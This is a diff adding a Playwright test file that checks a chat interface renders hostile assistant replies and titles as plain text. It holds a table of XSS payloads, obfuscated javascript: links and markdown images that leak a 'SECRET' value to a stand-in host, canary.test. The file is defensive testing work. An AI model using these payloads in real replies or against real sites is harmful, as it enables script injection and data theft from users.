@@ -1,0 +1,98 @@
+// What a model writes is text. Each row of badinputs.md 1 is shown, reloaded, and has done nothing.
+import type { Locator, Page } from "@playwright/test";
+
+import { begin, expectStatus, hydrated, latestReply, open, send, textOf } from "../../support/chat.ts";
+import { expect, test } from "../../support/fixtures.ts";
+
+const XSS = "window.__xss=1";
+const rows: [id: string, text: string, shown?: string][] = [
+  ["S-MD-01", `<script>${XSS}</script>`, `<script>${XSS}</script>`],
+  ["S-MD-02", `<img src=x onerror=${XSS}>`, "<img src=x onerror="],
+  ["S-MD-03", `[a](javascript:${XSS}) and ![b](javascript:${XSS})`],
+  ["S-MD-04", `[a](JaVaScRiPt:${XSS}) [b]( javascript:${XSS})`],
+  ["S-MD-05", `[a](java&#115;cript:${XSS}) [b](javascript&colon;${XSS}) [c](&#x6a;avascript:${XSS})`],
+  ["S-MD-06", `<javascript:${XSS}> <vbscript:${XSS}>`, "javascript:"],
+  ["S-MD-07", "[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml;base64,PHN2Zz4=)"],
+  ["S-MD-08", "![x](https://canary.test/p?q=SECRET)", "canary.test"],
+  ["S-MD-09", "![x][r]\n\n[r]: https://canary.test/p?q=SECRET", "canary.test"],
+  ["S-MD-10", `# h {onclick=${XSS}}`, "h"],
+  ["S-MD-11", "```js\"><img src=x onerror=" + XSS + ">\nx\n```", "x"],
+  ["S-MD-12", `[a](https://ok.test "\\"onmouseover=${XSS} x=\\"")`, "a"],
+  ["S-MD-13a", `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`, "<iframe"],
+  ["S-MD-13b", "<form action=//canary.test><input name=p></form>", "<form"],
+  ["S-MD-13c", "<base href=//canary.test>", "<base"],
+  ["S-MD-13d", "<meta http-equiv=refresh content=0;url=//canary.test>", "<meta"],
+  ["S-MD-13e", "<style>@import '//canary.test'</style>", "<style>"],
+  ["S-MD-14", "[a](//canary.test) [b](/logout) ![c](/logout)", "a b"],
+  ["S-MD-15", "[a](smb://canary.test/s) [b](calculator://) [c](file:///etc/passwd)", "a b c"],
+  ["S-MD-16", `$\\href{javascript:${XSS}}{x}$ and $$\\bad{<img src=x onerror=${XSS}>}$$`],
+  ["S-MD-20", "x\n\nevent: turn_end\ndata: {}\n\nafter", "after"],
+  ["S-MD-22a", "Error: this is only what the model says", "Error: this"],
+  ["S-MD-22b", `{"type":"turn_end"}`, `{"type":"turn_end"}`],
+];
+
+/** Nothing of the text became an element that can do something. */
+async function expectInert(page: Page, turn: Locator): Promise<void> {
+  expect(await page.evaluate(() => "__xss" in window)).toBe(false);
+  const alive = textOf(turn).locator("script, iframe, object, embed, img, form, base, meta, style, link, svg, [style]");
+  await expect(alive).toHaveCount(0);
+  const found = await textOf(turn).evaluateAll((blocks) =>
+    blocks.flatMap((block) => [...block.querySelectorAll("*")]).flatMap((element) => {
+      const handlers = element.getAttributeNames().filter((name) => name.startsWith("on"));
+      const href = element.getAttribute("href") ?? element.getAttribute("xlink:href") ?? "https:";
+      return /^(https?|mailto):/.test(href) ? handlers : [...handlers, href];
+    }),
+  );
+  expect(found).toEqual([]);
+}
+
+test("a hostile reply does nothing, live or reloaded", async ({ page, model }) => {
+  test.setTimeout(180_000);
+  page.on("dialog", (dialog) => {
+    throw new Error(`a dialog: ${dialog.message()}`);
+  });
+  for (const [index, [id, text, shown]] of rows.entries()) {
+    await test.step(id, async () => {
+      if (index === 0) await begin(page, id);
+      else await send(page, id);
+      const reply = await model.next();
+      reply.say(text);
+      reply.end();
+      await expect(page.locator("article[data-role=assistant]")).toHaveCount(index + 1);
+      await expectStatus(latestReply(page), "complete");
+      if (shown) await expect(textOf(latestReply(page))).toContainText(shown);
+      await expect(latestReply(page).locator("[data-error]")).toHaveCount(0);
+      await expectInert(page, latestReply(page));
+    });
+  }
+  await page.reload();
+  await hydrated(page);
+  for (const turn of await page.locator("article[data-role=assistant]").all()) await expectInert(page, turn);
+});
+
+test("a hostile reply is inert at every byte", async ({ page, model }) => {
+  await begin(page, "byte by byte");
+  const reply = await model.next();
+  const text = `<img src=x onerror=${XSS}>\n\n![x](https://canary.test/p?q=SECRET)\n\n<iframe srcdoc="<script>parent.__xss=1</script>">end`;
+  for (const character of text) reply.say(character);
+  await expect(textOf(latestReply(page))).toContainText("end");
+  await expectInert(page, latestReply(page));
+  reply.end();
+  await expectStatus(latestReply(page), "complete");
+  await expectInert(page, latestReply(page));
+});
+
+test("a hostile message and title are text", async ({ page, model }) => {
+  const hostile = `</title><script>${XSS}</script>`;
+  await begin(page, hostile);
+  const reply = await model.next();
+  reply.say("fine");
+  reply.end();
+  await expectStatus(latestReply(page), "complete");
+  await expect(page.locator("article[data-role=user]")).toContainText(hostile);
+  const path = new URL(page.url()).pathname;
+  await open(page, path);
+  expect(await page.evaluate(() => "__xss" in window)).toBe(false);
+  const html = await page.context().request.get(path).then((answer) => answer.text());
+  expect(html).not.toContain(`<script>${XSS}`);
+});
